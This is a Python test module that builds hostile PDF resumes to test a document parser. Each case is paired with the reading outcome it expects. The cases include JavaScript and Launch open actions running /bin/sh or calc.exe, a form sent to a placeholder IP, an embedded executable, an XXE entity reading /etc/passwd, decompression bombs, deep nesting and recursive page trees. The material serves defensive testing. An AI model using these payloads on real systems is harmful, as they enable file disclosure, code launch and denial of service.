"""PDFs that want something else than to be read: each is a resume with a trick in it, or a trick alone."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping

from tests.hostile.gets import OTHER, READ

LINES = (
    "Jane Doe",
    "Charge nurse",
    "202-555-0143 | jane.doe@example.com",
    "Experience",
    "Charge Nurse, Springfield General Hospital",
    "May 2019 - Present",
    "- Trained 30 nurses in triage",
    "Education",
    "Lakeside College, BSc Nursing, 2014",
)
TEXT = b"BT /F 11 Tf 14 TL 72 720 Td " + b" ".join(b"(%s) Tj T*" % line.encode() for line in LINES) + b" ET\n"
"""What the page of a sound resume draws."""
BLANKS = b" " * 1_000_000
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
A0 = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 730] "


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)


def packed(data: bytes) -> bytes:
    return stream(zlib.compress(data), b"/Filter /FlateDecode")


def flooded(start: bytes, more: bytes, times: int) -> bytes:
    """What unpacks to the start and then the rest so many times over; made without packing it all."""
    packer = zlib.compressobj(9)
    first = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(more) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(start)
    for _ in range(times):
        check = zlib.adler32(more, check)
    return first + again * times + b"\3\0" + check.to_bytes(4, "big")


def flood(start: bytes, more: bytes, times: int) -> bytes:
    """A stream that unpacks to so much."""
    return stream(flooded(start, more, times), b"/Filter /FlateDecode")


def build(objects: Mapping[int, bytes]) -> bytes:
    """The file of these objects, of which 1 is the catalog."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(1, size)
    )
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out)


def resume(
    drawn: bytes = TEXT,
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    content: bytes | None = None,
    more: Mapping[int, bytes] | None = None,
) -> bytes:
    """One page that draws this, with more keys in its dictionaries and more objects, numbered from 6."""
    return build(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %s"
            b" /Resources << /Font << /F 5 0 R /G 6 0 R >> %s >> >>" % (page, resources),
            4: stream(drawn) if content is None else content,
            5: FONT,
            **(more or {}),
        }
    )


def pages(number: int) -> bytes:
    """So many pages, each the same sound resume."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
    )
    kids = b" ".join(b"%d 0 R" % n for n in range(6, 6 + number))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count %d /Kids [%s] >>" % (number, kids),
        4: stream(TEXT),
        5: FONT,
    }
    return build(objects | dict.fromkeys(range(6, 6 + number), page))


def page_tree(depth: int) -> bytes:
    """The page at the end of a chain of nodes, each with one child."""
    page = (
        b"<< /Type /Page /Parent 6 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
    )
    nodes = {n: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (n + 1) for n in range(6, 6 + depth)}
    first = {1: b"<< /Type /Catalog /Pages 6 0 R >>", 4: stream(TEXT), 5: FONT}
    return build(first | nodes | {6 + depth: page})


def page_loop() -> bytes:
    """Page nodes that are each other's children, many times."""
    kids = b" ".join(b"%d 0 R" % n for n in range(6, 30))
    nodes = dict.fromkeys(range(6, 30), b"<< /Type /Pages /Count 9 /Kids [%s] >>" % kids)
    return build({1: b"<< /Type /Catalog /Pages 6 0 R >>", **nodes})


def outlines() -> bytes:
    """Bookmarks that are each other's children and followers."""
    items = {n: b"<< /Title (x) /Next %d 0 R /First 7 0 R /Parent 6 0 R >>" % (7 + (n - 6) % 20) for n in range(7, 27)}
    return resume(
        catalog=b"/Outlines 7 0 R /Names << /Dests << /Kids [6 0 R] >> >>", more={6: b"<< /Kids [6 0 R] >>", **items}
    )


def forms(levels: int, each: int) -> bytes:
    """Forms that draw the next one several times each: the number of drawings is a power."""
    call = b"/X Do " * each
    made = {
        n: stream(
            call if n < 7 + levels else b"0 0 5 5 re f\n",
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] /Resources << /XObject << /X %d 0 R >> >>" % (n + 1),
        )
        for n in range(7, 8 + levels)
    }
    return resume(TEXT + b"/X Do", resources=b"/XObject << /X 7 0 R >>", more={6: FONT, **made})


def type3() -> bytes:
    """A font whose letters are drawn with the font itself."""
    glyph = stream(b"1000 0 0 0 750 750 d1 BT /G 1 Tf (aaaa) Tj ET", b"")
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97"
        b" /LastChar 97 /Widths [1000] /Encoding << /Type /Encoding /Differences [97 /a] >> /CharProcs << /a 7 0 R >>"
        b" /Resources << /Font << /G 6 0 R >> >> >>"
    )
    return resume(TEXT + b"BT /G 10 Tf 72 300 Td (aaaa) Tj ET", more={6: font, 7: glyph})


def font(widths: bytes = b"", cmap: bytes = b"") -> bytes:
    """Text in a composite font with these widths and this map to Unicode."""
    composite = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /Odd /Encoding /Identity-H"
        b" /DescendantFonts [7 0 R] /ToUnicode 9 0 R >>"
    )
    inner = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Odd /DW 500 %s /FontDescriptor 8 0 R"
        b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>" % widths
    )
    about = b"<< /Type /FontDescriptor /FontName /Odd /Flags 4 /Ascent 750 /Descent -250 /FontBBox [0 -250 1000 750] >>"
    return resume(
        TEXT + b"BT /G 10 Tf 72 300 Td <004100420043> Tj ET", more={6: composite, 7: inner, 8: about, 9: packed(cmap)}
    )


def cmap(body: bytes) -> bytes:
    return (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap"
        b" 1 begincodespacerange <0000> <FFFF> endcodespacerange " + body + b" endcmap end end"
    )


def image(width: int, height: int, data: bytes = b"\0", head: bytes = b"/Filter /DCTDecode") -> bytes:
    """A picture over the page that says it has so many pixels."""
    about = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 /Width %d /Height %d " % (
        width,
        height,
    )
    return resume(
        TEXT + b"q 600 0 0 700 0 0 cm /I Do Q",
        resources=b"/XObject << /I 7 0 R >>",
        more={7: stream(data, about + head)},
    )


def script(catalog: bytes) -> bytes:
    return resume(
        catalog=catalog,
        page=b"/AA << /O << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\)) >> >> /Annots [%s]"
        % (A0 + b"/A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>"),
        more={7: stream(b"MZ" + b"\0" * 9000, b"/Type /EmbeddedFile")},
    )


def words(number: int) -> bytes:
    """A page of so many words."""
    line = b" ".join(b"word%d" % n for n in range(10))
    rows = b" ".join(b"(%s) Tj T*" % line for _ in range(number // 10))
    return resume(content=packed(b"BT /F 4 Tf 0.001 TL 72 720 Td " + rows + b" ET"))


def vectors(number: int) -> bytes:
    some = b"".join(b"%d %d 3 2 re f\n" % (n % 600, n // 600 % 700) for n in range(10_000))
    return resume(content=flood(TEXT, some, number // 10_000))


def lines(number: int) -> bytes:
    """Rules across and down the page: a table of very many cells."""
    across = b"".join(b"10 %d.%d 590 0.2 re f\n" % divmod(n * 10 * 700 // number, 10) for n in range(number))
    down = b"".join(b"%d.%d 10 0.2 700 re f\n" % divmod(n * 10 * 590 // number, 10) for n in range(number))
    return resume(content=packed(TEXT + across + down))


def hidden(number: int) -> bytes:
    """Words in white, each to be put to the proof, and panels under them."""
    rows = b" ".join(b"(white ink %d) Tj T*" % n for n in range(number))
    panels = b"".join(b"0.9%d g %d 10 40 700 re f\n" % (n % 10, n % 560) for n in range(500))
    return resume(content=packed(panels + b"0 g " + TEXT + b"1 g BT /F 3.5 Tf 0.05 TL 60 760 Td " + rows + b" ET"))


PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
    "JavaScript when opened": (lambda: script(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), READ),
    "program started when opened": (lambda: script(b"/OpenAction << /S /Launch /F (/bin/sh) >>"), READ),
    "form sent when opened": (lambda: script(b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>"), READ),
    "embedded program": (
        lambda: script(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>] >> >>"
        ),
        READ,
    ),
    "XFA form with an entity": (
        lambda: resume(
            catalog=b"/AcroForm << /XFA 7 0 R /Fields [] >>",
            more={7: stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')},
        ),
        READ,
    ),
    "content in another file": (
        lambda: resume(content=b"<< /Length 0 /F (/etc/passwd) /FFilter /ASCIIHexDecode >>\nstream\n\nendstream"),
        READ,
    ),
    "arrays 100,000 deep": (lambda: resume(page=b"/Deep " + b"[" * 100_000 + b"]" * 100_000), READ),
    "dictionaries 20,000 deep": (lambda: resume(page=b"/Deep " + b"<</D " * 20_000 + b"1" + b">>" * 20_000), READ),
    "arrays 100,000 deep in what is drawn": (lambda: resume(TEXT + b"[" * 100_000 + b"]" * 100_000 + b" TJ"), READ),
    "saved states 300,000 deep": (lambda: resume(content=packed(b"q " * 300_000 + TEXT)), READ),
    "page tree 90 deep": (lambda: page_tree(90), READ),
    "page tree 5,000 deep": (lambda: page_tree(5_000), "damaged"),
    "page tree that is its own child": (page_loop, "no pages"),
    "outlines in a circle": (outlines, READ),
    "parent in a circle": (lambda: resume().replace(b"/Kids [3 0 R]", b"/Kids [3 0 R] /Parent 2 0 R"), READ),
    "forms that draw forms, 10 to the 9th": (lambda: forms(9, 10), "draws more on a page"),
    "forms that draw forms, 400 deep": (lambda: forms(400, 1), "nested deeper"),
    "font drawn with itself": (type3, READ),
    "10,000 pages": (lambda: pages(10_000), "100 pages"),
    "100 pages": (lambda: pages(100), READ),
    "a count of a billion pages": (lambda: resume().replace(b"/Count 1 ", b"/Count 1000000000 "), READ),
    "one page of 100 MB": (lambda: resume(TEXT + b"0 0 1 1 re f\n" * 8_000_000), "MB"),
    "one page of 40 MB of shapes": (lambda: resume(TEXT + b"0 0 1 1 re f\n" * 3_100_000), "draws more on a page"),
    "40 MB of blanks": (lambda: resume(TEXT + b" " * 40_000_000), "draws more on a page"),
    "a stream of 1 GB in 1 MB": (lambda: resume(content=flood(TEXT, BLANKS, 1000)), "draws more on a page"),
    "a stream packed three times": (
        lambda: resume(
            content=stream(
                zlib.compress(zlib.compress(flooded(TEXT, BLANKS, 900))), b"/Filter [%s]" % (b"/FlateDecode " * 3)
            )
        ),
        "draws more on a page",
    ),
    "a stream of 1 GB that nobody draws": (
        lambda: resume(catalog=b"/Metadata 7 0 R", more={7: flood(b"", BLANKS, 1000)}),
        READ,
    ),
    "filters 1,000 times": (
        lambda: resume(content=stream(TEXT.hex().encode() + b">", b"/Filter [%s]" % (b"/ASCIIHexDecode " * 1000))),
        "draws more on a page",
    ),
    "a filter that nobody knows": (lambda: resume(content=stream(TEXT, b"/Filter /Unheard")), READ),
    "a predictor with a billion columns": (
        lambda: resume(
            content=stream(
                zlib.compress(TEXT), b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000 >>"
            )
        ),
        "draws more on a page",
    ),
    "LZW that unpacks to much": (
        lambda: resume(content=stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 200_000, b"/Filter /LZWDecode")),
        "draws more on a page",
    ),
    "run lengths that unpack to much": (
        lambda: resume(content=stream(b"\x81 " * 4_000_000 + b"\x80", b"/Filter /RunLengthDecode")),
        "draws more on a page",
    ),
    "a picture of a billion by a billion": (lambda: image(10**9, 10**9), READ),
    "a picture of 30,000 by 30,000 in 1 MB": (
        lambda: image(30_000, 30_000, flooded(b"", bytes(1_000_000), 900), b"/Filter /FlateDecode"),
        READ,
    ),
    "a picture of minus one": (lambda: image(-1, -(10**20)), READ),
    "a page of 1,000,000 points": (
        lambda: resume().replace(b"[0 0 612 792]", b"[0 0 1000000 1000000]"),
        READ,
    ),
    "a page of 1e30 points": (lambda: resume().replace(b"[0 0 612 792]", b"[0 0 1e30 -1e30]"), "damaged"),
    "widths of 1,000,000,000 letters": (lambda: font(b"/W [0 1000000000 500]"), READ),
    "widths listed 250,000 times": (lambda: font(b"/W [0 [%s]]" % (b"500 " * 250_000)), READ),
    "a character map of a billion letters": (
        lambda: font(cmap=cmap(b"1 beginbfrange <00000000> <3B9AC9FF> <0041> endbfrange")),
        READ,
    ),
    "a character map of 20 MB": (lambda: font(cmap=cmap(b"99 beginbfchar " + b"<0041> <0042> " * 1_300_000)), READ),
    "a character map of megabytes a letter": (
        lambda: font(cmap=cmap(b"3 beginbfchar <0041> <%s> <0042> <0042> endbfchar" % (b"0041" * 500_000))),
        READ,
    ),
    "a character map that uses itself": (lambda: font(cmap=b"/Identity-H usecmap " * 1000), READ),
    "a font named by its own map": (lambda: font(cmap=b"begincmap 1 beginbfchar <41> endbfchar" * 100), READ),
    "1,000,000 words on a page": (lambda: words(1_000_000), "50,000 letters"),
    "100,000 words on a page": (lambda: words(100_000), "50,000 letters"),
    "8,000 words on a page": (lambda: words(8_000), OTHER),
    "100,000 shapes on a page": (lambda: vectors(100_000), READ),
    "1,000,000 shapes on a page": (lambda: vectors(1_000_000), "draws more on a page"),
    "a table of 1,000 by 1,000 cells": (lambda: lines(1_000), READ),
    "1,000 words in white": (lambda: hidden(1_000), READ),
    "8,000 links": (
        lambda: resume(page=b"/Annots [%s]" % ((A0 + b"/A << /S /URI /URI (http://192.0.2.1/)>> >> ") * 8_000)),
        READ,
    ),
    "object streams in a circle": (
        lambda: resume(
            more={6: b"<< /Type /ObjStm /N 1 /First 4 /Extends 6 0 R /Length 6 0 R >>\nstream\n\nendstream"}
        ),
        READ,
    ),
    "control characters": (
        lambda: resume(
            TEXT.replace(b"nurses", b"\\033[31mnurses\\033]0;owned\\007").replace(b"triage", b"tri\\000\\177age")
        ),
        READ,
    ),
}
"""By what it is: the file, and words of the sentence that refuses it, or how it is read."""
